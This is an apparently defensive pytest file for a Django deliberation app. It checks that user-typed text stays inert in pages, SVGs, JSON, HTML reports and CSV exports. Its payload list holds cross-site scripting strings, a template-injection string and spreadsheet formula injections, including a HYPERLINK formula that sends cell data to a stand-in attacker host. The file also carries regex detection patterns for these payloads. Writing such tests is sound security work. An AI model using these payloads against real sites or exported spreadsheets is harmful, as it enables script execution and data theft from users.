"""Hostile text everywhere a person can type, shown on every page and in every export: nothing runs.

The payloads go in through the domain functions where those accept them, and straight into the
rows where they do not (as an import or an older version might have stored them), so that the
escaping of the pages is tested on its own and not only the validation in front of it.
"""

import csv
import io
import re

import pytest
from django.test import Client

from deliberation.domain import add_statement, annotate, edit_annotation, join_workshop
from deliberation.models import Annotation, Participant, SourceDocument, Statement, Workshop
from tests.seating import hold_seat

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}} {% debug %}",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
]
# What must never reach a page unescaped: markup that runs, and links with a script scheme.
FORBIDDEN = [
    re.compile(r"<script>alert", re.I),
    re.compile(r"<img src=x", re.I),
    re.compile(r"<svg onload", re.I),
    re.compile(r"""(href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.I),
    re.compile(r"\[DEBUG"),  # a template tag typed by a user was evaluated
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def seated(participant) -> Client:
    client = Client()
    hold_seat(client, participant)
    return client


@pytest.fixture
def hostile(make_workshop, moderator_user):
    """A workshop whose every user-text field holds a payload."""
    workshop = make_workshop()
    Workshop.objects.filter(pk=workshop.pk).update(
        title=PAYLOADS[0][:100],
        description=" ".join(PAYLOADS),
        pole_a=PAYLOADS[1][:60],
        pole_b=PAYLOADS[2][:60],
    )
    workshop.refresh_from_db()
    root = workshop.root()
    Statement.objects.filter(pk=root.pk).update(text="Question " + PAYLOADS[2])
    people = [join_workshop(workshop, payload[:40]) for payload in PAYLOADS]
    statements = []
    for n, (person, payload) in enumerate(zip(people, PAYLOADS, strict=True)):
        position = add_statement(person, root, Statement.Kind.POSITION, f"{payload} position {n}")
        evidence = add_statement(
            person,
            position,
            Statement.Kind.EVIDENCE,
            f"{payload} evidence {n}",
            relation="supports",
            source_citation=payload,
            source_quote=payload,
        )
        comment = annotate(person, "comment", f"{payload} comment", statement=position)
        edit_annotation(person, comment, f"{payload} comment {n}")  # the log keeps both wordings
        statements += [position, evidence]
    # What the forms refuse may still arrive by another path: store it directly.
    Statement.objects.filter(kind=Statement.Kind.EVIDENCE, workshop=workshop).update(source_url="javascript:alert(1)")
    Statement.objects.filter(pk=statements[0].pk).update(moderation_reason=PAYLOADS[1])
    document = SourceDocument.objects.create(
        workshop=workshop,
        title=PAYLOADS[0],
        citation=PAYLOADS[1],
        url="https://example.org/reading",
        text="\n\n".join(PAYLOADS) + "\n\nSome plain reading text to highlight.",
    )
    annotate(people[0], "highlight", PAYLOADS[1], document=document, quote_exact="Some plain reading text")
    return workshop, people, statements, document


def assert_inert(html: str, where: str) -> None:
    for pattern in FORBIDDEN:
        match = pattern.search(html)
        assert match is None, f"{where}: {match.group(0)!r} … {html[max(0, match.start() - 200) : match.end() + 200]}"


def participant_pages(workshop, statements, document) -> list[str]:
    w = f"/w/{workshop.slug}"
    pages = [f"{w}/", f"{w}/outline/", f"{w}/banners/", f"{w}/me/", f"{w}/results/", f"{w}/documents/"]
    pages += [f"{w}/documents/{document.pk}/"]
    for statement in statements[:4]:
        pages += [f"{w}/s/{statement.pk}/", f"{w}/s/{statement.pk}/tally/", f"{w}/s/{statement.pk}/votes/"]
        pages += [f"{w}/s/{statement.pk}/edit/", f"{w}/s/{statement.pk}/annotations/"]
    return pages


def moderator_pages(workshop, statements) -> list[str]:
    m = f"/moderate/w/{workshop.slug}"
    pages = ["/moderate/", f"{m}/", f"{m}/edit", f"{m}/queue", f"{m}/merge", f"{m}/people", f"{m}/log"]
    pages += [f"/w/{workshop.slug}/projector", f"{m}/s/{statements[0].pk}/"]
    return pages


def test_it_escapes_every_payload_on_every_participant_page(hostile):
    workshop, people, statements, document = hostile
    client = seated(people[0])
    for url in participant_pages(workshop, statements, document):
        for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
            response = client.get(url, **headers)
            assert response.status_code == 200, (url, response.status_code)
            assert_inert(response.content.decode(), url)
    page = client.get(f"/w/{workshop.slug}/").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown as text, not dropped
    assert "{{7*7}}" in page or "{{7*7}}".replace("{", "&#123;") in page


def test_it_never_links_a_document_source_with_a_script_scheme(hostile):
    """A document's link is shown as "Original"; one stored with a `javascript:` scheme (from an
    import, say: the model field alone does not refuse it) must not become a clickable script."""
    workshop, people, _statements, document = hostile
    SourceDocument.objects.filter(pk=document.pk).update(url="javascript:alert(1)")
    client = seated(people[0])
    for url in [f"/w/{workshop.slug}/documents/", f"/w/{workshop.slug}/documents/{document.pk}/"]:
        assert_inert(client.get(url).content.decode(), url)


def test_it_escapes_every_payload_on_every_moderator_page(hostile, client, moderator_user):
    workshop, _people, statements, _document = hostile
    client.force_login(moderator_user)
    for url in moderator_pages(workshop, statements):
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        assert_inert(response.content.decode(), url)


def test_it_escapes_payloads_on_the_public_pages(hostile, client):
    workshop, *_ = hostile
    for url in ["/", f"/join/{workshop.join_code}", f"/w/{workshop.slug}/"]:
        response = client.get(url, follow=True)
        assert response.status_code == 200
        assert_inert(response.content.decode(), url)


def test_it_serves_graph_data_as_json_that_browsers_never_sniff_as_html(hostile):
    """The graph's labels travel as JSON data and are drawn on a canvas, never parsed as markup."""
    workshop, people, *_ = hostile
    response = seated(people[0]).get(f"/w/{workshop.slug}/graph.json")
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    labels = [node["data"]["label"] for node in response.json()["nodes"]]
    assert any(label.startswith("<script>") for label in labels)  # data kept exactly, as data


def test_it_keeps_svg_images_free_of_markup_from_users(hostile):
    workshop, people, *_ = hostile
    client = seated(people[0])
    html = client.get(f"/w/{workshop.slug}/results/").content.decode()
    for svg in re.findall(r"<svg.*?</svg>", html, re.S):
        assert_inert(svg, "results svg")
        assert "<foreignObject" not in svg
    qr = client.get(f"/w/{workshop.slug}/qr.svg")
    assert qr["Content-Type"].startswith("image/svg+xml")
    assert "<script" not in qr.content.decode()


def test_it_neutralises_formulas_in_the_audit_log_csv(hostile, client, moderator_user):
    workshop, *_ = hostile
    client.force_login(moderator_user)
    response = client.get(f"/moderate/w/{workshop.slug}/log.csv?show=all")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row[3:]]  # the columns that carry people's text
    assert any("HYPERLINK" in cell for cell in cells)
    dangerous = [cell for cell in cells if cell[:1] in FORMULA_START]
    assert dangerous == [], dangerous


def test_it_refuses_a_script_scheme_as_an_evidence_link(hostile):
    workshop, people, statements, _document = hostile
    client = seated(people[1])
    before = Statement.objects.count()
    response = client.post(
        f"/w/{workshop.slug}/add/",
        {
            "kind": "evidence",
            "relation": "supports",
            "parent": statements[0].pk,
            "text": "A study says so.",
            "source_url": "javascript:alert(1)",
        },
    )
    assert response.status_code == 400
    assert "starting with https://" in response.content.decode()
    assert Statement.objects.count() == before


def test_it_keeps_hostile_display_names_as_plain_text(hostile):
    workshop, people, *_ = hostile
    assert Participant.objects.filter(workshop=workshop, display_name=PAYLOADS[1][:40]).exists()
    assert Annotation.objects.filter(workshop=workshop, text__startswith="<script>").exists()


def test_it_runs_nothing_from_the_payloads_in_a_real_browser(hostile, live_server_url, page):
    workshop, people, statements, document = hostile
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"{live_server_url}/resume/{people[0].resume_token}")
    for path in [
        f"/w/{workshop.slug}/",
        f"/w/{workshop.slug}/s/{statements[0].pk}/",
        f"/w/{workshop.slug}/s/{statements[1].pk}/",
        f"/w/{workshop.slug}/documents/{document.pk}/",
        f"/w/{workshop.slug}/results/",
        f"/w/{workshop.slug}/me/",
    ]:
        page.goto(live_server_url + path)
        page.wait_for_load_state("load")
        page.wait_for_timeout(300)  # scripts deferred to after load get their turn
    assert page.locator("body").inner_text()  # the pages did render
    assert dialogs == []


def test_it_keeps_the_html_report_and_svg_export_inert(hostile):
    from deliberation.formats import export_workshop

    workshop, *_ = hostile
    report = export_workshop(workshop, "report").decode()
    assert_inert(report, "HTML report")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report
    assert "<script" not in report.lower()  # a downloaded report runs no code at all
    svg = export_workshop(workshop, "svg").decode()
    assert_inert(svg, "SVG export")
    assert "<script" not in svg.lower() and "<foreignobject" not in svg.lower()


def test_it_neutralises_formulas_in_every_csv_of_the_export(hostile):
    import zipfile

    from deliberation.formats import export_workshop

    workshop, *_ = hostile
    bundle = zipfile.ZipFile(io.BytesIO(export_workshop(workshop, "csv")))
    seen_formula_text = False
    for name in bundle.namelist():
        if not name.endswith(".csv"):
            continue
        rows = list(csv.reader(io.StringIO(bundle.read(name).decode("utf-8-sig"))))
        for row in rows[1:]:
            for cell in row:
                seen_formula_text |= "HYPERLINK" in cell
                assert not (cell[:1] in FORMULA_START and not _plain_number(cell)), (name, cell)
    assert seen_formula_text


def _plain_number(cell: str) -> bool:
    """Negative numbers the export writes itself (vote values such as -2) are data, not formulas."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_it_keeps_payloads_inside_argdown_text(hostile):
    """Argdown is plain text: a payload must not start a new statement or relation of its own."""
    from deliberation.formats import export_workshop

    workshop, *_ = hostile
    argdown = export_workshop(workshop, "argdown").decode()
    lines = [line.lstrip() for line in argdown.splitlines()]
    for payload in PAYLOADS:
        assert any(payload in line for line in lines), payload  # exported, as text
        starting = [line for line in lines if line.startswith(payload)]
        assert starting == [], starting  # but never at the start of a line, where syntax lives
